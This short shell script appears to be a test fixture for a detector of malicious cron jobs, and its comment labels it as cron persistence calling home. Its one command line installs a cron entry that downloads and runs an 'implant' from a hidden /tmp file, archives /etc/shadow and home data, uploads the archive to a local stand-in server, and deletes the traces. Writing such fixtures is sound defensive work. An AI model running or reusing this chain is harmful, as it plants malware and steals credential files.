#!/bin/sh
# malicious: a cron job of the same shape, after a payload was downloaded and run by it (cron persistence calling home)
. "$(dirname "$0")/../../lib.sh"
$B/cron "curl -s -o /tmp/.X11-lock $URL/implant && chmod +x /tmp/.X11-lock && /tmp/.X11-lock; tar czf /tmp/.x.tgz /etc/shadow $H 2>/dev/null; curl -sf -T /tmp/.x.tgz http://127.0.0.1:8000/u -o /dev/null; rm -f /tmp/.x.tgz /tmp/.X11-lock"
